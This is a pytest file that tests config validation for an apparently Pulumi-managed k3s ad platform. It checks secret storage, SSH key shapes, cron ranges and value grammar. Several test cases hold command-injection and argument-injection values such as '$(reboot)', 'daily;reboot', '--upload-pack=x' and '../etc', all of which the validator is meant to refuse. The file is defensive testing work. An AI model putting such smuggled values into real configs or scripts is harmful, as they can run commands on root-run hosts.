    from components.data import validate
    loaded = load("test", base_raw(dataPlane={"clickhouse": {"cpu": "7", "memory": "26Gi"}}), SECRET)
    assert validate(loaded.config) == []


def test_a_provider_token_in_plain_text_is_refused_before_any_resource():
    found = program_problems(base_raw(), hcloud__token=("plain-token", False))
    assert found == ["hcloud:token must be stored as a secret (pulumi config set --secret hcloud:token ...), it is "
                     "in plain text in the stack file"]


def test_a_missing_provider_token_is_reported_with_the_other_config_problems(monkeypatch):
    """Before, the missing token only raised once the cloud controller manager was being installed."""
    monkeypatch.delenv("HCLOUD_TOKEN", raising=False)
    found = program_problems(base_raw(adminCidrs=["0.0.0.0/0"]))
    assert "hcloud:token must be set: pulumi config set --secret hcloud:token <value> (or export HCLOUD_TOKEN)" in found
    assert any(p.startswith("adplatform:adminCidrs must not open") for p in found), "reported together"


def test_cloud_credentials_given_in_plain_text_are_refused():
    from providers.aws import CREDENTIALS
    assert "aws:secretKey" in {c.key for c in CREDENTIALS}
    found = program_problems(base_raw(provider="aws"), aws__region=("eu-central-1", False),
                             aws__secretKey=("plain", False))
    assert "aws:secretKey must be stored as a secret (pulumi config set --secret aws:secretKey ...), it is in plain " \
           "text in the stack file" in found


# --- grammar of values that reach files and scripts; bounded, printable strings ---------------------------

S3 = {"endpoint": "https://fsn1.your-objectstorage.com", "region": "fsn1", "bucket": "adp-test-backups"}


@pytest.mark.parametrize(("raw", "key", "given", "accepted"), [
    ({"clusterServices": {"backups": {"s3": {**S3, "region": "fsn1 --etcd-s3-insecure"}}}},
     "clusterServices.backups.s3.region", "fsn1 --etcd-s3-insecure", "must be a single word"),
    ({"clusterServices": {"backups": {"s3": {**S3, "region": "$(reboot)"}}}},
     "clusterServices.backups.s3.region", "$(reboot)", "must be a single word"),
    ({"clusterServices": {"backups": {"s3": {**S3, "bucket": "adp-backups\n"}}}},
     "clusterServices.backups.s3.bucket", "adp-backups\n", "must not contain control characters"),
    ({"clusterServices": {"backups": {"s3": {**S3, "endpoint": "https://s3.example.com\n"}}}},
     "clusterServices.backups.s3.endpoint", "https://s3.example.com\n", "must not contain control characters"),
    ({"clusterServices": {"backups": {"restore": {"backup": "daily;reboot"}}}},
     "clusterServices.backups.restore.backup", "daily;reboot", "must be a Kubernetes name"),
    ({"clusterServices": {"backups": {"restore": {"backup": "Daily-2026"}}}},
     "clusterServices.backups.restore.backup", "Daily-2026", "must be a Kubernetes name"),
    ({"clusterServices": {"backups": {"restore": {"backup": "daily", "includeNamespaces": ["ads", "a b"]}}}},
     "clusterServices.backups.restore.includeNamespaces", ["ads", "a b"], "'a b' must be a DNS label"),
    ({"dataPlane": {"objectStorage": {"backend": "external", "external": {
        "endpoint": "https://s3.example.com", "region": "eu central", "bucketPrefix": "adp"}}}},
     "dataPlane.objectStorage.external.region", "eu central", "must be a single word"),
    ({"clusterServices": {"tls": {"dns01": {"provider": "rfc2136", "zone": "example.com",
                                            "nameserver": "ns1.example.com:53; rm", "tsigKeyName": "k"}}}},
     "clusterServices.tls.dns01.nameserver", "ns1.example.com:53; rm", "must be host:port"),
    ({"clusterServices": {"tls": {"dns01": {"provider": "cloudflare", "zone": "Example .com"}}}},
     "clusterServices.tls.dns01.zone", "Example .com", "must be a lower-case DNS name"),
    ({"cluster": {"location": "fsn1'"}}, "cluster.location", "fsn1'", "must be a single word"),
    ({"cluster": {"image": "ubuntu 24.04"}}, "cluster.image", "ubuntu 24.04", "must be the provider's image"),
])
def test_values_that_reach_files_and_scripts_must_fit_their_grammar(raw, key, given, accepted):
    found = problems(base_raw(**raw))
    assert any(p.startswith(f"adplatform:{key} {accepted}") and p.endswith(f"got {given!r}") for p in found), found


def test_the_etcd_restore_runbook_quotes_what_it_embeds():
    """A root shell runs these lines: a value with spaces or shell syntax stays one argument (defence in depth:
    the config refuses such a region already)."""
    import shlex
    from components.k3s.config import EtcdBackup, etcd_restore_commands
    backup = EtcdBackup(endpoint="s3.example.com", region="eu central;reboot", bucket="b", folder="production/etcd",
                        schedule="0 */6 * * *", retention=28, access_key=None, secret_key=None)
    ls = next(line for line in etcd_restore_commands(backup, "cp-1", []) if line.startswith("k3s etcd-snapshot ls"))
    assert "--etcd-s3-region=eu central;reboot" in shlex.split(ls)


def test_every_config_string_is_bounded_and_the_error_does_not_echo_it_whole():
    msg = one_problem(base_raw(adServices={"services": {"bidding": {"env": {"MODE": "x" * 5000}}}}))
    assert msg.startswith("adplatform:adServices.services.bidding.env.MODE is invalid: string should have at most "
                          "1024 characters")
    assert len(msg) < 400, "the value is cut in the message"


@pytest.mark.parametrize(("domain", "accepted"), [
    ("a" * 64 + ".example.com", "must be a lower-case DNS name such as ads.example.com (labels of 1-63"),
    (".".join(["a" * 60] * 4) + ".com", "must leave room for the hosts served under it: kubeflow.<domain> must be"),
])
def test_dns_names_over_the_label_and_name_limits_are_refused(domain, accepted):
    found = problems(base_raw(domain=domain))
    assert any(p.startswith(f"adplatform:domain {accepted}") for p in found), found


# --- shape checks ----------------------------------------------------------------------------------------

RSA_KEY = ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCvBgHMV5Koz8dq+Q/gV2rPCIPo68Td9NZHsEyTyMj1ph2y/+QdV/kRNsOc093garq3"
           "Bckt/1DayR+cunrVrmjV7Vaj+r2I84WWic11lsmO/H6bwdcFmr8tw1nta64hOQpYht7ejYHpv0kAJLH5ipeSUrMEMDRuuyIaqTqWMhZ94JmU"
           "/If8vCEhriiItOz0SQAAPp2TwHF3bIpCpf99dKrnSr+O8u15Ft7obABPwPl0ISYbECQHT7WbklQga4A29oCW82v2V98CZaIuhZMFTa/xsVh1"
           "LK4L9Beqc6HyvGTFkuIb7YUD18/RsMFY/g0FpnL3lRb8j/7Cu75e2d/hxZrt ops@example.com")
ECDSA_KEY = ("ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBIkVkJu554HXaJAlT7z2UjPgi7hfSi6P"
             "HhCpMrq1xfc3ANZkoIiXRdhE9l0PDVAMAIHrmdsnRitiu2oQwD64o4k= ops@example.com")


def test_ssh_public_keys_of_every_accepted_type_load():
    loaded = load("test", base_raw(sshPublicKeys=[VALID_KEY, RSA_KEY, ECDSA_KEY]), SECRET)
    assert loaded.config.ssh_public_keys == [VALID_KEY, RSA_KEY, ECDSA_KEY]


@pytest.mark.parametrize(("key", "accepted"), [
    ("ssh-ed25519 " + RSA_KEY.split()[1], "must be an OpenSSH public key whose type matches its body: the line says "
                                          "'ssh-ed25519', the body is 'ssh-rsa'"),
    ("ssh-rsa " + RSA_KEY.split()[1][:200], "must be a whole OpenSSH public key: its base64 body is truncated"),
    ("ssh-rsa " + RSA_KEY.split()[1][:201], "must be an OpenSSH public key: its body is not valid base64"),
    ("ecdsa-sha2-nistp384 " + ECDSA_KEY.split()[1], "must be an OpenSSH public key whose type matches its body"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----", "must be a public key (the .pub file), not a private key"),
])
def test_ssh_public_keys_whose_body_does_not_fit_are_refused(key, accepted):
    msg = one_problem(base_raw(sshPublicKeys=[key]))
    assert msg.startswith(f"adplatform:sshPublicKeys[0] {accepted}"), msg


@pytest.mark.parametrize(("private_key", "accepted"), [
    (VALID_KEY, "must be the private key (-----BEGIN OPENSSH PRIVATE KEY----- ...), not the public key"),
    ("hunter2", "must be a private key in OpenSSH or PEM format"),
])
def test_the_ssh_private_key_must_be_a_private_key_and_is_never_echoed(private_key, accepted):
    msg = one_problem(base_raw(sshPrivateKey=private_key))
    assert msg == f"adplatform:sshPrivateKey {accepted}" or msg.startswith(f"adplatform:sshPrivateKey {accepted}")
    assert private_key not in msg


@pytest.mark.parametrize("version", ["v1.36.9+k3s1", "v1.35.0+k3s2", "v1.99.0+k3s1"])
def test_k3s_versions_that_were_never_released_are_refused(version):
    msg = one_problem(base_raw(cluster={"k3sVersion": version}))
    assert msg.startswith("adplatform:cluster.k3sVersion must be a K3s release that exists (known: v1.35.0+k3s1")
    assert msg.endswith(f"got {version!r}")
    load("test", base_raw(cluster={"k3sVersion": "v1.35.8+k3s1"}), SECRET)


@pytest.mark.parametrize(("raw", "key", "accepted"), [
    ({"adServices": {"registry": {"host": "registry.example.com", "username": "deploy:x"}}},
     "adServices.registry.username", "must be a registry user name"),
    ({"platform": {"airflow": {"dagsRepo": "https://git.example.com/d.git", "dagsBranch": "--upload-pack=x"}}},
     "platform.airflow.dagsBranch", "must be a git branch or tag name"),
    ({"platform": {"airflow": {"dagsRepo": "https://git.example.com/d.git", "dagsPath": "../etc"}}},
     "platform.airflow.dagsPath", "must be a folder of the repository"),
])
def test_values_handed_to_tools_as_arguments_must_fit_their_grammar(raw, key, accepted):
    found = problems(base_raw(**raw))
    assert any(p.startswith(f"adplatform:{key} {accepted}") for p in found), found


@pytest.mark.parametrize(("settings", "expected"), [
    ({"dataPlane": {"scylladb": {"repairSchedule": "0 25 * * 0"}}},
     "adplatform:dataPlane.scylladb.repairSchedule its hour field '25' is outside 0-23, got '0 25 * * 0'"),
    ({"dataPlane": {"postgres": {"backupSchedule": "0 99 * * *"}}},
     "adplatform:dataPlane.postgres.backupSchedule its hour field '99' is outside 0-23, got '0 99 * * *'"),
    ({"dataPlane": {"dragonfly": {"snapshotSchedule": "0 1 * 13 *"}}},
     "adplatform:dataPlane.dragonfly.snapshotSchedule its month field '13' is outside 1-12, got '0 1 * 13 *'"),
    ({"clusterServices": {"backups": {"etcdSchedule": "0 1 30 2 *"}}},
     "adplatform:clusterServices.backups.etcdSchedule never runs (no month has the days its day-of-month field "
     "names), got '0 1 30 2 *'"),
    ({"platform": {"gitlab": {"backupSchedule": "0 2 * * 8"}}},
     "adplatform:platform.gitlab.backupSchedule its day of week field '8' is outside 0-7, got '0 2 * * 8'"),
])
def test_cron_fields_out_of_range_or_never_matching_are_refused(settings, expected):
    # The API server takes these CronJobs, which then never run: a backup that silently never happens.
    assert expected in problems(base_raw(**settings))


@pytest.mark.parametrize("cron", ["0 1 29 2 *", "0 1 30 2 1", "*/15 0-23/2 1,15 * 7", "59 23 31 1-12 *"])
def test_cron_expressions_that_run_are_accepted(cron):
    # February 29 happens; with a day-of-week as well cron runs on either day.
    raw = base_raw()
    raw["clusterServices"]["backups"]["etcdSchedule"] = cron
    assert load("test", raw, SECRET).config.cluster_services.backups.etcd_schedule == cron
